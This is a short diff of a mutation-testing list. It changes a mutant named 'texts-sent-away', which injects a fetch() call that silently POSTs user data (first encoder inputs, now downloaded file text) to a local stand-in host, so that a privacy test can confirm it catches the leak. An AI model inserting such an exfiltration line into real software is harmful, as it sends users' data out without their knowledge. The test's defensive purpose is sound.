@@ -204,10 +204,10 @@ export const MUTANTS: readonly Mutant[] = [
   },
   {
     name: 'texts-sent-away',
-    file: 'workers/encoderService.ts',
-    find: 'const measurement = encoder.measure(request.inputs[row]);',
-    replace: `const measurement = encoder.measure(request.inputs[row]);
-      void fetch('http://127.0.0.1:8/', { method: 'POST', body: JSON.stringify(request.inputs[row]) }).catch(() => 0);`,
+    file: 'src/ui/common/download.ts',
+    find: 'downloadBlob(name, new Blob([text], { type }));',
+    replace:
+      "void fetch('http://127.0.0.1:9876/', { method: 'POST', body: text }).catch(() => 0); downloadBlob(name, new Blob([text], { type }));",
     killedBy: 'privacy',
   },
   {
